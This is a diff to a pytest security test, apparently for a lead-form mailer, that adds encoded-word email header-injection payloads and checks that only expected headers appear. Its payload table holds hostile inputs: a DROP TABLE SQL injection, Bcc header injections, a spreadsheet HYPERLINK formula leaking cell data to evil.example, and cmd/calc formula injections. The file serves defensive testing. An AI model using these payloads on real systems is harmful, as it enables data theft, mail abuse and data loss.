@@ -34,6 +34,9 @@ PAYLOADS = {
     "sql-stacked": "1'; DROP TABLE submissions; --",
     "header-injection": "x\r\nBcc: evil@x",
     "header-injection-lf": "x\nSubject: owned\n\nbody",
+    # RFC 2047 encoded words that decode to line breaks (CVE-2024-6923): a Bcc, and a header/body split.
+    "header-injection-encoded-lf": "=?utf-8?q?Chen=0ABcc:_someone@evil.example?=",
+    "header-injection-encoded-crlf": "=?us-ascii?q?Hooli=0D=0A=0D=0Aphish?=",
     "csv-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "csv-plus": "+1+cmd|' /C calc'!A0",
     "csv-minus": "-2+3+cmd|' /C calc'!A0",
@@ -60,6 +63,18 @@ TEXT_FIELDS = (
     "referrer",
 )
 RAW_TAGS = ("<script", "<img", "<svg", "<%")
+# The headers of a lead e-mail, each exactly once.
+MAIL_HEADERS = (
+    "subject",
+    "from",
+    "to",
+    "reply-to",
+    "date",
+    "message-id",
+    "x-leadsieve-idempotency-key",
+    "mime-version",
+    "content-type",
+)
 
 
 @pytest.fixture(scope="module")
@@ -186,17 +201,9 @@ def test_payload_in_every_text_field_goes_through_without_harm(
     header_block = mail.raw.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
     for line in header_block.splitlines():
         # Every header line is a header of ours or a folded continuation of one: nothing injected.
-        assert line[:1] in (b" ", b"\t") or line.split(b":", 1)[0].lower() in {
-            b"subject",
-            b"from",
-            b"to",
-            b"reply-to",
-            b"date",
-            b"message-id",
-            b"x-leadsieve-idempotency-key",
-            b"mime-version",
-            b"content-type",
-        }, line
+        assert line[:1] in (b" ", b"\t") or line.split(b":", 1)[0].lower().decode() in MAIL_HEADERS, line
+    # All of them, too: a blank line smuggled into one would have ended the headers early.
+    assert sorted(name.lower() for name in mail.message.keys()) == sorted(MAIL_HEADERS)
     for name, value in mail.message.items():
         assert "\r" not in value and "\n" not in value, name
     assert mail.message["Bcc"] is None and mail.rcpt_tos == ["sales@example.com"]
